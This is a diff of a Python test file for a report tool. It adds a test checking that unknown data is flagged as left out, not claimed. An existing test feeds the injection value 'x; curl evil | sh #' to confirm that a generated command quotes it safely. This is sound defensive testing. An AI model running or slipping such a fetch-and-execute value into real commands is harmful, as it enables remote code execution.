@@ -62,6 +62,13 @@ def test_long_lists_are_cut_and_the_rest_is_counted() -> None:
     assert found.title == f"{ITEMS + 5} refusals repeat"
 
 
+def test_what_is_not_known_is_not_claimed() -> None:
+    failed = record(outcome="failed", reason="kms-failed")
+    (found,) = findings_of(aggregate([failed], since=UNTIL - timedelta(days=1), until=UNTIL, knows_created=False))
+    assert found.title == "1 failure"
+    assert "left out of this report" in found.explanation
+
+
 def test_a_command_to_copy_runs_nothing_that_a_name_says() -> None:
     (found,) = findings_of(found_in(refusals("x; curl evil | sh #")))
     assert found.command == "deployer explain 300000000001 'x; curl evil | sh #'"
